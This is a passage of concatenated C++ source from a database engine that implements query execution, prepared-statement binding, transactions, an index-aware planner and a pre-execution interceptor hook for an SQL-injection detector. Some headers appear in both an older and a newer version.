    ps.ddl_version_ = ddl_tag;
  }
  const uint64_t epoch_tag = interceptor_epoch_.load(std::memory_order_acquire);
  std::shared_ptr<QueryInterceptor> interceptor = pinned_interceptor();

  std::shared_ptr<txn::Transaction> txn = current_txn(session);
  auto reject = [&](InterceptDecision d) {
    blocked_count_.fetch_add(1, std::memory_order_relaxed);
    std::string reason =
        d.reason.empty() ? "query dropped by interceptor" : d.reason;
    if (txn && d.abort_txn) {
      rollback_txn(txn, /*aborted_on_block=*/true);
      session.set_txn(nullptr);
      reason += " (transaction rolled back)";
    }
    throw DbError(ErrorCode::kBlocked, std::move(reason));
  };

  if (interceptor) {
    if (!ps.stack_) {
      // An interceptor was installed after PREPARE ran without one.
      ps.stack_ = std::make_shared<const sql::ItemStack>(
          sql::build_item_stack(ps.parsed_->statement));
    }
    QueryEvent event{*ps.parsed_, *ps.stack_, session.id(), session.user(),
                     txn != nullptr};
    const bool verdict_current =
        ps.has_verdict_ && epoch_tag == ps.interceptor_epoch_ &&
        ps.decision_.cacheable &&
        interceptor->generations() == ps.decision_.generations;
    if (!verdict_current) {
      // The re-verdict counts as its own interception (like PREPARE's):
      // the interceptor accounts for it in on_query, and the refreshed
      // decision is re-cached in the handle. A blocked verdict is never
      // cacheable, so every blocked EXEC re-verdicts — each attack
      // occurrence is logged and counted individually.
      prepared_reverdicts_.fetch_add(1, std::memory_order_relaxed);
      InterceptDecision fresh = run_interceptor(*interceptor, event);
      ps.interceptor_epoch_ = epoch_tag;
      ps.decision_ = std::move(fresh);
      ps.has_verdict_ = true;
      if (!ps.decision_.allow) reject(ps.decision_);
    }
    // The per-EXEC hook: replay accounting plus the data-plane scan of the
    // bound values. No query-model work, no digest cache.
    InterceptDecision dp =
        run_interceptor_prepared(*interceptor, event, ps.decision_, params);
    if (!dp.allow) reject(std::move(dp));
  }

  // Bind-execute-revert: the executor reads the statement by const&, so
  // rewriting placeholders to literals in place is safe, and the reverter
  // restores the template on every exit path.
  BindReverter revert(ps.placeholders_);
  for (size_t i = 0; i < params.size(); ++i) {
    sql::Expr* e = ps.placeholders_[i];
    e->kind = sql::ExprKind::kLiteral;
    e->literal = params[i];
    e->literal_was_quoted = params[i].type() == sql::ValueType::kString;
    revert.bound_one();
  }
  return dispatch_execute(session, ps.parsed_->statement, ps.kind_, ddl_tag);
}

}  // namespace septic::engine

#include "engine/database.h"

#include "common/unicode.h"
#include "engine/error.h"
#include "engine/executor.h"
#include "sqlcore/lexer.h"
#include "sqlcore/parser.h"

namespace septic::engine {

void Database::set_interceptor(std::shared_ptr<QueryInterceptor> interceptor) {
  std::lock_guard lock(mu_);
  interceptor_ = std::move(interceptor);
}

namespace {

/// Last-resort boundary around the interceptor hook. SEPTIC handles its
/// own failures (fail policy), but the engine cannot assume every
/// installed interceptor does: an exception escaping here would otherwise
/// unwind through the server's connection loop as an anonymous
/// std::exception and drop the connection. Convert it into the engine's
/// own error taxonomy instead so the client gets a proper INTERNAL error.
InterceptDecision run_interceptor(QueryInterceptor& interceptor,
                                  const QueryEvent& event) {
  try {
    return interceptor.on_query(event);
  } catch (const DbError&) {
    throw;
  } catch (const std::exception& e) {
    throw DbError(ErrorCode::kInternal,
                  std::string("interceptor failure: ") + e.what());
  } catch (...) {
    throw DbError(ErrorCode::kInternal, "interceptor failure");
  }
}

}  // namespace

ResultSet Database::execute(Session& session, std::string_view raw_sql) {
  // 1. Character-set conversion (where U+02BC becomes a plain quote) —
  // pure text work, outside the engine lock.
  std::string converted = charset_conversion_
                              ? common::server_charset_convert(raw_sql)
                              : std::string(raw_sql);

  // 2+3. Lex, parse — also pure; concurrent connections parse in parallel.
  sql::ParsedQuery parsed;
  try {
    parsed = sql::parse(converted);
  } catch (const sql::LexError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("lex error: ") + e.what());
  } catch (const sql::ParseError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("parse error: ") + e.what());
  }

  // Transaction control bypasses the interceptor: BEGIN/COMMIT/ROLLBACK
  // carry no user data and are handled by the facade, which owns the
  // snapshot.
  if (sql::statement_kind(parsed.statement) ==
      sql::StatementKind::kTransaction) {
    return handle_transaction(session,
                              std::get<sql::TransactionStmt>(parsed.statement));
  }

  // 4. Validation against the catalog (short lock): the interceptor must
  // only ever see catalog-valid statements, exactly as before.
  std::shared_ptr<QueryInterceptor> interceptor;
  {
    std::lock_guard lock(mu_);
    check_txn_conflict_locked(session);
    validate_statement(catalog_, parsed.statement);
    interceptor = interceptor_;
  }

  // 5. Item stack + interceptor (SEPTIC's hook point) — outside the lock:
  // this is the per-query detection fast path, and it scales with client
  // count instead of queueing behind the single-writer engine.
  if (interceptor) {
    sql::ItemStack stack = sql::build_item_stack(parsed.statement);
    QueryEvent event{parsed, stack, session.id(), session.user()};
    InterceptDecision decision = run_interceptor(*interceptor, event);
    if (!decision.allow) {
      blocked_count_.fetch_add(1, std::memory_order_relaxed);
      throw DbError(ErrorCode::kBlocked,
                    decision.reason.empty() ? "query dropped by interceptor"
                                            : decision.reason);
    }
  }

  // 6. Execution (the serialized stage). Re-check transaction ownership
  // and re-validate: a transaction or DDL that raced the unlocked window
  // surfaces as a normal engine error here, never as executor UB.
  std::lock_guard lock(mu_);
  check_txn_conflict_locked(session);
  validate_statement(catalog_, parsed.statement);
  executed_count_.fetch_add(1, std::memory_order_relaxed);
  return execute_statement(catalog_, session, parsed.statement);
}

ResultSet Database::execute_admin(std::string_view raw_sql) {
  Session admin("admin");
  return execute(admin, raw_sql);
}

void Database::check_txn_conflict_locked(const Session& session) const {
  if (txn_active_ && session.id() != txn_owner_) {
    throw DbError(ErrorCode::kUnsupported,
                  "another session's transaction is in progress");
  }
}

ResultSet Database::handle_transaction(Session& session,
                                       const sql::TransactionStmt& txn) {
  std::lock_guard lock(mu_);
  switch (txn.op) {
    case sql::TransactionStmt::Op::kBegin:
      if (txn_active_) {
        throw DbError(ErrorCode::kUnsupported,
                      txn_owner_ == session.id()
                          ? "nested transactions are not supported"
                          : "another session's transaction is in progress");
      }
      txn_snapshot_ = catalog_.save_snapshot();
      txn_active_ = true;
      txn_owner_ = session.id();
      return {};
    case sql::TransactionStmt::Op::kCommit:
      if (!txn_active_ || txn_owner_ != session.id()) {
        throw DbError(ErrorCode::kUnsupported, "no transaction to commit");
      }
      txn_active_ = false;
      txn_snapshot_.clear();
      return {};
    case sql::TransactionStmt::Op::kRollback:
      if (!txn_active_ || txn_owner_ != session.id()) {
        throw DbError(ErrorCode::kUnsupported, "no transaction to roll back");
      }
      catalog_.load_snapshot(txn_snapshot_);
      txn_active_ = false;
      txn_snapshot_.clear();
      return {};
  }
  throw DbError(ErrorCode::kInternal, "unreachable transaction op");
}

bool Database::in_transaction() const {
  std::lock_guard lock(mu_);
  return txn_active_;
}

void Database::rollback_if_owner(uint64_t session_id) {
  std::lock_guard lock(mu_);
  if (txn_active_ && txn_owner_ == session_id) {
    catalog_.load_snapshot(txn_snapshot_);
    txn_active_ = false;
    txn_snapshot_.clear();
  }
}

namespace {

void bind_select(sql::SelectStmt& sel, const std::vector<sql::Value>& params,
                 size_t& bound);

void bind_expr(sql::Expr& e, const std::vector<sql::Value>& params,
               size_t& bound) {
  if (e.subquery) bind_select(*e.subquery, params, bound);
  if (e.kind == sql::ExprKind::kPlaceholder) {
    if (e.placeholder_index < 0 ||
        static_cast<size_t>(e.placeholder_index) >= params.size()) {
      throw DbError(ErrorCode::kSyntax,
                    "not enough parameters for prepared statement");
    }
    const sql::Value& v = params[static_cast<size_t>(e.placeholder_index)];
    e.kind = sql::ExprKind::kLiteral;
    e.literal = v;
    e.literal_was_quoted = v.type() == sql::ValueType::kString;
    ++bound;
    return;
  }
  for (auto& c : e.children) bind_expr(*c, params, bound);
}

void bind_select(sql::SelectStmt& sel, const std::vector<sql::Value>& params,
                 size_t& bound) {
  for (auto& it : sel.items) {
    if (it.expr) bind_expr(*it.expr, params, bound);
  }
  for (auto& j : sel.joins) {
    if (j.on) bind_expr(*j.on, params, bound);
  }
  if (sel.where) bind_expr(*sel.where, params, bound);
  for (auto& g : sel.group_by) bind_expr(*g, params, bound);
  if (sel.having) bind_expr(*sel.having, params, bound);
  for (auto& o : sel.order_by) bind_expr(*o.expr, params, bound);
  for (auto& u : sel.unions) bind_select(*u.select, params, bound);
}

/// Substitute every placeholder with its bound parameter; returns how many
/// placeholders were bound.
size_t bind_statement(sql::Statement& stmt,
                      const std::vector<sql::Value>& params) {
  size_t bound = 0;
  switch (sql::statement_kind(stmt)) {
    case sql::StatementKind::kSelect:
      bind_select(*std::get<sql::SelectPtr>(stmt), params, bound);
      break;
    case sql::StatementKind::kInsert:
      for (auto& row : std::get<sql::InsertStmt>(stmt).rows) {
        for (auto& v : row) bind_expr(*v, params, bound);
      }
      break;
    case sql::StatementKind::kUpdate: {
      auto& up = std::get<sql::UpdateStmt>(stmt);
      for (auto& a : up.assignments) bind_expr(*a.value, params, bound);
      if (up.where) bind_expr(*up.where, params, bound);
      break;
    }
    case sql::StatementKind::kDelete: {
      auto& del = std::get<sql::DeleteStmt>(stmt);
      if (del.where) bind_expr(*del.where, params, bound);
      break;
    }
    default:
      break;
  }
  return bound;
}

}  // namespace

ResultSet Database::execute_prepared(Session& session,
                                     std::string_view template_sql,
                                     const std::vector<sql::Value>& params) {
  // The TEMPLATE undergoes charset conversion (it is statement text); the
  // bound parameters do not (they travel as typed data in the binary
  // protocol and can never be re-lexed). Conversion, parse, and binding
  // are all pure per-query work and run outside the engine lock.
  std::string converted = charset_conversion_
                              ? common::server_charset_convert(template_sql)
                              : std::string(template_sql);

  sql::ParsedQuery parsed;
  try {
    parsed = sql::parse(converted);
  } catch (const sql::LexError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("lex error: ") + e.what());
  } catch (const sql::ParseError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("parse error: ") + e.what());
  }

  if (sql::statement_kind(parsed.statement) ==
      sql::StatementKind::kTransaction) {
    return handle_transaction(session,
                              std::get<sql::TransactionStmt>(parsed.statement));
  }

  size_t bound = bind_statement(parsed.statement, params);
  if (bound != params.size()) {
    throw DbError(ErrorCode::kSyntax,
                  "parameter count mismatch: statement has " +
                      std::to_string(bound) + " placeholder(s), got " +
                      std::to_string(params.size()));
  }

  std::shared_ptr<QueryInterceptor> interceptor;
  {
    std::lock_guard lock(mu_);
    check_txn_conflict_locked(session);
    validate_statement(catalog_, parsed.statement);
    interceptor = interceptor_;
  }

  if (interceptor) {
    sql::ItemStack stack = sql::build_item_stack(parsed.statement);
    QueryEvent event{parsed, stack, session.id(), session.user()};
    InterceptDecision decision = run_interceptor(*interceptor, event);
    if (!decision.allow) {
      blocked_count_.fetch_add(1, std::memory_order_relaxed);
      throw DbError(ErrorCode::kBlocked,
                    decision.reason.empty() ? "query dropped by interceptor"
                                            : decision.reason);
    }
  }

  std::lock_guard lock(mu_);
  check_txn_conflict_locked(session);
  validate_statement(catalog_, parsed.statement);
  executed_count_.fetch_add(1, std::memory_order_relaxed);
  return execute_statement(catalog_, session, parsed.statement);
}

}  // namespace septic::engine

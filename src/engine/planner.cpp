#include "engine/planner.h"

#include <algorithm>
#include <map>
#include <vector>

#include "common/string_util.h"
#include "engine/eval.h"

namespace septic::engine {
namespace {

void collect_conjuncts(const sql::Expr& e,
                       std::vector<const sql::Expr*>& out) {
  if (e.kind == sql::ExprKind::kBinary && e.op == "AND") {
    collect_conjuncts(*e.children[0], out);
    collect_conjuncts(*e.children[1], out);
    return;
  }
  out.push_back(&e);
}

/// `column op literal` with the column normalized to the left (the
/// operator flips when the source had the literal first).
struct SargRef {
  const sql::Expr* col = nullptr;
  const sql::Expr* lit = nullptr;
  std::string op;
};

std::optional<SargRef> classify_comparison(const sql::Expr& e) {
  if (e.kind != sql::ExprKind::kBinary) return std::nullopt;
  if (e.op != "=" && e.op != "<" && e.op != "<=" && e.op != ">" &&
      e.op != ">=") {
    return std::nullopt;
  }
  const sql::Expr* l = e.children[0].get();
  const sql::Expr* r = e.children[1].get();
  std::string op = e.op;
  if (l->kind != sql::ExprKind::kColumn) {
    std::swap(l, r);
    if (op == "<") op = ">";
    else if (op == "<=") op = ">=";
    else if (op == ">") op = "<";
    else if (op == ">=") op = "<=";
  }
  if (l->kind != sql::ExprKind::kColumn ||
      r->kind != sql::ExprKind::kLiteral) {
    return std::nullopt;
  }
  return SargRef{l, r, op};
}

/// Can an index on `col` answer for this literal with eval's comparison
/// semantics? TEXT indexes sort case-folded strings lexicographically,
/// but eval compares numerically the moment the literal is numeric — so
/// TEXT columns demand a string literal. Numeric columns accept anything:
/// the bound is rewritten into the numeric domain eval compares in.
bool sarg_compatible(const storage::TableSchema& schema, size_t col,
                     const sql::Value& lit) {
  if (lit.is_null()) return false;  // comparisons with NULL match nothing
  if (schema.column(col).type == storage::ColumnType::kText) {
    return lit.type() == sql::ValueType::kString;
  }
  return true;
}

/// The bound value in eval's comparison domain: numeric columns compare
/// via coerce_double on both sides (Value::compare), so a numeric-column
/// bound is exactly the literal's double coercion — inclusivity carries
/// over verbatim. TEXT bounds stay strings (folded at probe time).
sql::Value range_bound(const storage::TableSchema& schema, size_t col,
                       const sql::Value& lit) {
  if (schema.column(col).type == storage::ColumnType::kText) return lit;
  return sql::Value(lit.coerce_double());
}

struct Bound {
  sql::Value v;
  bool inclusive = false;
};

void merge_lo(std::optional<Bound>& cur, sql::Value v, bool inclusive) {
  if (!cur || v.compare(cur->v) > 0 ||
      (v.compare(cur->v) == 0 && !inclusive)) {
    cur = Bound{std::move(v), inclusive};
  }
}

void merge_hi(std::optional<Bound>& cur, sql::Value v, bool inclusive) {
  if (!cur || v.compare(cur->v) < 0 ||
      (v.compare(cur->v) == 0 && !inclusive)) {
    cur = Bound{std::move(v), inclusive};
  }
}

struct RangeAcc {
  std::optional<Bound> lo, hi;
};

/// Core planning over WHERE conjuncts; order/limit handling layers on top
/// in plan_select_access.
AccessPlan plan_conjuncts(const storage::Table& t, const sql::Expr* where) {
  const storage::TableSchema& schema = t.schema();
  const double n = std::max<double>(1.0, static_cast<double>(t.row_count()));
  AccessPlan best;
  best.kind = AccessPlan::Kind::kFullScan;
  best.est_rows = n;
  best.scan_rows = n;
  double best_cost = n;
  if (where == nullptr) return best;

  std::vector<const sql::Expr*> conjuncts;
  collect_conjuncts(*where, conjuncts);

  auto consider = [&](AccessPlan cand, double cost) {
    if (cost < best_cost) {
      cand.est_rows = cost;
      cand.scan_rows = n;
      best = std::move(cand);
      best_cost = cost;
    }
  };

  std::map<std::string, RangeAcc> ranges;  // indexed column -> bounds
  auto fold_range = [&](const std::string& column, const sql::Value& lit,
                        std::string_view op) {
    int ci = schema.column_index(column);
    if (ci < 0 || !t.secondary_index_on(column)) return;
    if (!sarg_compatible(schema, static_cast<size_t>(ci), lit)) return;
    sql::Value bound = range_bound(schema, static_cast<size_t>(ci), lit);
    RangeAcc& acc = ranges[column];
    if (op == ">") merge_lo(acc.lo, std::move(bound), false);
    else if (op == ">=") merge_lo(acc.lo, std::move(bound), true);
    else if (op == "<") merge_hi(acc.hi, std::move(bound), false);
    else if (op == "<=") merge_hi(acc.hi, std::move(bound), true);
  };

  for (const sql::Expr* c : conjuncts) {
    if (c->kind == sql::ExprKind::kBetween && !c->negated &&
        c->children.size() == 3 &&
        c->children[0]->kind == sql::ExprKind::kColumn &&
        c->children[1]->kind == sql::ExprKind::kLiteral &&
        c->children[2]->kind == sql::ExprKind::kLiteral) {
      const std::string& column = c->children[0]->column;
      fold_range(column, c->children[1]->literal, ">=");
      fold_range(column, c->children[2]->literal, "<=");
      continue;
    }
    auto sarg = classify_comparison(*c);
    if (!sarg) continue;
    const std::string& column = sarg->col->column;
    int ci = schema.column_index(column);
    if (ci < 0) continue;
    const sql::Value& lit = sarg->lit->literal;
    if (!sarg_compatible(schema, static_cast<size_t>(ci), lit)) continue;
    if (sarg->op == "=") {
      if (schema.primary_key_index() == ci) {
        AccessPlan p;
        p.kind = AccessPlan::Kind::kPkPoint;
        p.column = column;
        p.eq_value = lit;
        consider(std::move(p), 1.0);
      }
      if (auto info = t.secondary_index_on(column)) {
        AccessPlan p;
        p.kind = AccessPlan::Kind::kIndexPoint;
        p.index_name = info->name;
        p.column = column;
        p.eq_value = lit;
        double bucket = static_cast<double>(info->entries) /
                        std::max<double>(1.0,
                                         static_cast<double>(
                                             info->distinct_keys));
        consider(std::move(p), std::max(1.0, bucket));
      }
      continue;
    }
    fold_range(column, lit, sarg->op);
  }

  for (auto& [column, acc] : ranges) {
    auto info = t.secondary_index_on(column);
    if (!info) continue;
    // No histograms: a bounded-both-sides range is guessed at N/4, a
    // half-open one at N/2. WHERE re-evaluation makes a bad guess a
    // performance bug only.
    double cost = acc.lo && acc.hi ? n / 4.0 : n / 2.0;
    AccessPlan p;
    p.kind = AccessPlan::Kind::kIndexRange;
    p.index_name = info->name;
    p.column = column;
    if (acc.lo) {
      p.lo = acc.lo->v;
      p.lo_inclusive = acc.lo->inclusive;
    }
    if (acc.hi) {
      p.hi = acc.hi->v;
      p.hi_inclusive = acc.hi->inclusive;
    }
    consider(std::move(p), std::max(1.0, cost));
  }
  return best;
}

/// ORDER BY pushdown eligibility: exactly one key, a plain column of this
/// table, not shadowed by a select-item alias (order_result would sort by
/// the aliased output column instead).
std::optional<std::pair<std::string, bool>> pushable_order_key(
    const sql::SelectStmt& sel, const storage::Table& t,
    const std::string& binding) {
  if (sel.order_by.size() != 1) return std::nullopt;
  const sql::OrderKey& key = sel.order_by[0];
  const sql::Expr& e = *key.expr;
  if (e.kind != sql::ExprKind::kColumn) return std::nullopt;
  if (!e.table.empty() && !common::iequals(e.table, binding)) {
    return std::nullopt;
  }
  if (t.schema().column_index(e.column) < 0) return std::nullopt;
  for (const auto& it : sel.items) {
    if (!it.star && common::iequals(it.alias, e.column)) return std::nullopt;
  }
  return std::make_pair(e.column, key.desc);
}

}  // namespace

AccessPlan plan_select_access(const storage::Table& t,
                              const sql::SelectStmt& sel) {
  AccessPlan plan = plan_conjuncts(t, sel.where.get());

  bool has_agg = !sel.group_by.empty();
  for (const auto& it : sel.items) {
    if (!it.star && contains_aggregate(*it.expr)) has_agg = true;
  }
  // Aggregates/DISTINCT consume the whole row stream before producing
  // output — neither pushdown applies (index predicate paths still do).
  const bool pushdown_eligible = !has_agg && !sel.distinct;

  const std::string binding =
      sel.from.size() == 1
          ? (sel.from[0].alias.empty() ? sel.from[0].name : sel.from[0].alias)
          : std::string();
  auto order = pushable_order_key(sel, t, binding);

  if (order && pushdown_eligible) {
    if (plan.kind == AccessPlan::Kind::kIndexRange &&
        common::iequals(plan.column, order->first)) {
      plan.order_pushdown = true;
      plan.desc = order->second;
    } else if (plan.kind == AccessPlan::Kind::kFullScan &&
               t.secondary_index_on(order->first)) {
      // Ordered walk costs the same row visits as a scan but replaces the
      // sort; with a LIMIT it stops early and beats the scan outright.
      auto info = t.secondary_index_on(order->first);
      plan.kind = AccessPlan::Kind::kIndexOrder;
      plan.index_name = info->name;
      plan.column = order->first;
      plan.order_pushdown = true;
      plan.desc = order->second;
      if (sel.limit) {
        size_t stop = static_cast<size_t>(std::max<int64_t>(0, *sel.limit)) +
                      static_cast<size_t>(
                          std::max<int64_t>(0, sel.offset.value_or(0)));
        plan.est_rows = std::min(plan.scan_rows, static_cast<double>(stop));
      }
    }
  }

  if (pushdown_eligible && sel.limit &&
      (sel.order_by.empty() || plan.order_pushdown)) {
    plan.limit_pushdown = true;
    plan.stop_after =
        static_cast<size_t>(std::max<int64_t>(0, *sel.limit)) +
        static_cast<size_t>(std::max<int64_t>(0, sel.offset.value_or(0)));
  }
  return plan;
}

AccessPlan plan_where_access(const storage::Table& t, const sql::Expr* where) {
  return plan_conjuncts(t, where);
}

std::string access_path_name(const AccessPlan& plan) {
  switch (plan.kind) {
    case AccessPlan::Kind::kFullScan: return "scan";
    case AccessPlan::Kind::kPkPoint: return "const (primary key)";
    case AccessPlan::Kind::kIndexPoint: return "ref (secondary index)";
    case AccessPlan::Kind::kIndexRange: return "range (secondary index)";
    case AccessPlan::Kind::kIndexOrder: return "index (secondary index)";
  }
  return "scan";
}

std::string pushdown_flags(const AccessPlan& plan) {
  std::string out;
  if (plan.order_pushdown) out = "order";
  if (plan.limit_pushdown) {
    if (!out.empty()) out += ',';
    out += "limit";
  }
  return out;
}

}  // namespace septic::engine

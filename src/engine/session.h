// Per-connection session state. Sessions are cheap value objects; the
// Database facade is shared and internally synchronized.
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <string>

namespace septic::engine {

namespace txn {
struct Transaction;
}

class Session {
 public:
  Session() : id_(next_id().fetch_add(1, std::memory_order_relaxed)) {}
  explicit Session(std::string user) : Session() { user_ = std::move(user); }

  uint64_t id() const { return id_; }
  const std::string& user() const { return user_; }

  int64_t last_insert_id() const { return last_insert_id_; }
  void set_last_insert_id(int64_t v) { last_insert_id_ = v; }

  /// The session's open transaction, cached here so the hot path never
  /// touches the TxnManager's registry lock. The Database facade owns the
  /// lifecycle; it re-checks Transaction::state on every statement, so a
  /// transaction finished elsewhere (disconnect cleanup, abort-on-block)
  /// is noticed and dropped on the next use. Sessions are not shared
  /// between threads, so no synchronization here.
  const std::shared_ptr<txn::Transaction>& txn() const { return txn_; }
  void set_txn(std::shared_ptr<txn::Transaction> t) { txn_ = std::move(t); }

 private:
  static std::atomic<uint64_t>& next_id() {
    static std::atomic<uint64_t> counter{1};
    return counter;
  }

  uint64_t id_;
  std::string user_ = "app";
  int64_t last_insert_id_ = 0;
  std::shared_ptr<txn::Transaction> txn_;
};

}  // namespace septic::engine

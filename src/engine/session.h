// Per-connection session state. Sessions are cheap value objects; the
// Database facade is shared and internally synchronized.
#pragma once

#include <atomic>
#include <cstdint>
#include <string>

namespace septic::engine {

class Session {
 public:
  Session() : id_(next_id().fetch_add(1, std::memory_order_relaxed)) {}
  explicit Session(std::string user) : Session() { user_ = std::move(user); }

  uint64_t id() const { return id_; }
  const std::string& user() const { return user_; }

  int64_t last_insert_id() const { return last_insert_id_; }
  void set_last_insert_id(int64_t v) { last_insert_id_ = v; }

 private:
  static std::atomic<uint64_t>& next_id() {
    static std::atomic<uint64_t> counter{1};
    return counter;
  }

  uint64_t id_;
  std::string user_ = "app";
  int64_t last_insert_id_ = 0;
};

}  // namespace septic::engine

// The pre-execution hook. The server calls the interceptor *after* the
// statement has been received, parsed, and validated, and *right before*
// execution — the exact point where the paper inserts SEPTIC ("SEPTIC runs
// right before the execution step, after all potential modifications have
// been applied to the queries").
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "sqlcore/item.h"
#include "sqlcore/parser.h"
#include "sqlcore/value.h"

namespace septic::engine {

class QueryDigestCache;

/// Everything SEPTIC (or any other in-DBMS guard) can see about a query.
struct QueryEvent {
  const sql::ParsedQuery& query;   // post charset-conversion text + AST
  const sql::ItemStack& stack;     // MySQL-style item stack
  uint64_t session_id = 0;
  std::string user;
  /// True when the statement runs inside an open multi-statement
  /// transaction — the scenario class where a blocked statement may, by
  /// policy, abort the whole transaction (InterceptDecision::abort_txn).
  bool in_transaction = false;
};

/// Monotonic counters an interceptor exposes so the engine's digest cache
/// can tell whether a cached verdict is still current. Both values are
/// captured at on_query entry, BEFORE any model lookup — a mutation racing
/// the verdict computation therefore always makes the cached entry stale
/// (spurious invalidation is safe; a missed one would not be).
struct InterceptorGenerations {
  uint64_t config_epoch = 0;      // configuration snapshot counter
  uint64_t model_generation = 0;  // learned-model store mutation counter

  bool operator==(const InterceptorGenerations& o) const {
    return config_epoch == o.config_epoch &&
           model_generation == o.model_generation;
  }
  bool operator!=(const InterceptorGenerations& o) const {
    return !(*this == o);
  }
};

struct InterceptDecision {
  /// When false, the server drops the query and reports ErrorCode::kBlocked.
  bool allow = true;
  std::string reason;
  /// Only meaningful with allow == false: when true and the blocked
  /// statement ran inside an open transaction, the engine rolls the whole
  /// transaction back (poisoned-transaction containment) instead of
  /// leaving it open for the session to continue.
  bool abort_txn = false;

  // --- digest-cache opt-in (see engine/digest_cache.h) ----------------
  /// True when this decision may be replayed for byte-identical statement
  /// text while `generations` still match. Interceptors set it only on
  /// benign allow-verdicts whose pipeline is deterministic in (bytes,
  /// generations); attack verdicts are never cacheable (each occurrence
  /// must be logged and counted individually).
  bool cacheable = false;
  /// Opaque interceptor state handed back on replay (e.g. the composed
  /// query ID, so replayed queries log with the same identity). The engine
  /// never looks inside.
  std::shared_ptr<const void> cache_payload;
  /// Generation tags captured at on_query entry; the engine stores them in
  /// the cache entry and revalidates them against generations() on hit.
  InterceptorGenerations generations;

  static InterceptDecision proceed() { return {}; }
  static InterceptDecision reject(std::string why) {
    InterceptDecision d;
    d.allow = false;
    d.reason = std::move(why);
    return d;
  }
};

class QueryInterceptor {
 public:
  virtual ~QueryInterceptor() = default;
  /// Should not throw: a robust interceptor makes its own allow/drop
  /// decision on internal failure (see core::FailPolicy). If an exception
  /// does escape, the engine reports it as ErrorCode::kInternal rather
  /// than letting it unwind the caller's connection loop.
  virtual InterceptDecision on_query(const QueryEvent& event) = 0;

  /// Current generation counters, compared against a cached entry's tags
  /// before the engine replays its verdict. The default (all-zero, never
  /// changing) suits interceptors that never set `cacheable`.
  virtual InterceptorGenerations generations() const { return {}; }

  /// Digest-cache hit: the engine is about to execute `event` on the
  /// strength of a previously returned cacheable decision instead of
  /// calling on_query. The interceptor must account for the query here
  /// (per-query stats, processed-query logging) exactly as if on_query had
  /// run — the engine calls exactly one of on_query / on_query_replayed
  /// per intercepted statement.
  virtual void on_query_replayed(const QueryEvent& event,
                                 const InterceptDecision& decision,
                                 const std::shared_ptr<const void>& payload) {
    (void)event;
    (void)decision;
    (void)payload;
  }

  /// Prepared-statement EXEC whose PREPARE-time verdict is still
  /// generation-current: the engine is about to bind `params` into the
  /// template and execute, on the strength of `decision` (returned by
  /// on_query over the TEMPLATE — placeholders as wildcard data nodes).
  /// The structural verdict is NOT recomputed; implementations must
  /// account for the query exactly as on_query_replayed would, and may run
  /// their data-plane detectors (stored-injection plugins) over the bound
  /// parameter values — the one attack surface a template verdict cannot
  /// cover, because it lives in the data, not the query structure.
  /// Returning reject drops this execution only; the statement handle
  /// stays valid. Accounting contract: every EXEC gets exactly one
  /// on_prepared_exec; an EXEC whose cached verdict went stale gets one
  /// on_query first (the re-verdict, its own interception) — QUERYs still
  /// get exactly one of on_query / on_query_replayed.
  virtual InterceptDecision on_prepared_exec(
      const QueryEvent& event, const InterceptDecision& decision,
      const std::shared_ptr<const void>& payload,
      const std::vector<sql::Value>& params) {
    (void)params;
    on_query_replayed(event, decision, payload);
    return InterceptDecision::proceed();
  }

  /// Called when the interceptor is installed into a Database that owns a
  /// digest cache, so the interceptor can surface the cache's counters in
  /// its own stats. The engine retains ownership.
  virtual void attach_digest_cache(
      std::shared_ptr<const QueryDigestCache> cache) {
    (void)cache;
  }
};

}  // namespace septic::engine

// The pre-execution hook. The server calls the interceptor *after* the
// statement has been received, parsed, and validated, and *right before*
// execution — the exact point where the paper inserts SEPTIC ("SEPTIC runs
// right before the execution step, after all potential modifications have
// been applied to the queries").
#pragma once

#include <cstdint>
#include <string>

#include "sqlcore/item.h"
#include "sqlcore/parser.h"

namespace septic::engine {

/// Everything SEPTIC (or any other in-DBMS guard) can see about a query.
struct QueryEvent {
  const sql::ParsedQuery& query;   // post charset-conversion text + AST
  const sql::ItemStack& stack;     // MySQL-style item stack
  uint64_t session_id = 0;
  std::string user;
};

struct InterceptDecision {
  /// When false, the server drops the query and reports ErrorCode::kBlocked.
  bool allow = true;
  std::string reason;

  static InterceptDecision proceed() { return {true, {}}; }
  static InterceptDecision reject(std::string why) {
    return {false, std::move(why)};
  }
};

class QueryInterceptor {
 public:
  virtual ~QueryInterceptor() = default;
  /// Should not throw: a robust interceptor makes its own allow/drop
  /// decision on internal failure (see core::FailPolicy). If an exception
  /// does escape, the engine reports it as ErrorCode::kInternal rather
  /// than letting it unwind the caller's connection loop.
  virtual InterceptDecision on_query(const QueryEvent& event) = 0;
};

}  // namespace septic::engine

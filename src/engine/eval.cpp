#include "engine/eval.h"

#include <cmath>

#include "common/hash.h"
#include "common/string_util.h"
#include "engine/error.h"

namespace septic::engine {

using sql::Value;
using sql::ValueType;

void NameScope::add(std::string binding, const storage::TableSchema* schema,
                    size_t offset) {
  entries_.push_back({std::move(binding), schema, offset});
  width_ = std::max(width_, offset + schema->column_count());
}

size_t NameScope::resolve(std::string_view table,
                          std::string_view column) const {
  int found = -1;
  for (const auto& e : entries_) {
    if (!table.empty() && !common::iequals(e.binding, table)) continue;
    int idx = e.schema->column_index(column);
    if (idx >= 0) {
      if (found >= 0) {
        throw DbError(ErrorCode::kUnknownColumn,
                      "ambiguous column '" + std::string(column) + "'");
      }
      found = static_cast<int>(e.offset) + idx;
    }
  }
  if (found < 0) {
    std::string qualified =
        table.empty() ? std::string(column)
                      : std::string(table) + "." + std::string(column);
    throw DbError(ErrorCode::kUnknownColumn,
                  "unknown column '" + qualified + "'");
  }
  return static_cast<size_t>(found);
}

bool is_aggregate_function(std::string_view n) {
  return n == "COUNT" || n == "SUM" || n == "AVG" || n == "MIN" || n == "MAX";
}

bool contains_aggregate(const sql::Expr& e) {
  if (e.kind == sql::ExprKind::kFunc && is_aggregate_function(e.func_name)) {
    return true;
  }
  for (const auto& c : e.children) {
    if (contains_aggregate(*c)) return true;
  }
  return false;
}

bool sql_like(std::string_view text, std::string_view pattern) {
  // Iterative matcher with backtracking on '%'.
  size_t t = 0, p = 0;
  size_t star_p = std::string_view::npos, star_t = 0;
  auto lower = [](char c) {
    return (c >= 'A' && c <= 'Z') ? static_cast<char>(c - 'A' + 'a') : c;
  };
  while (t < text.size()) {
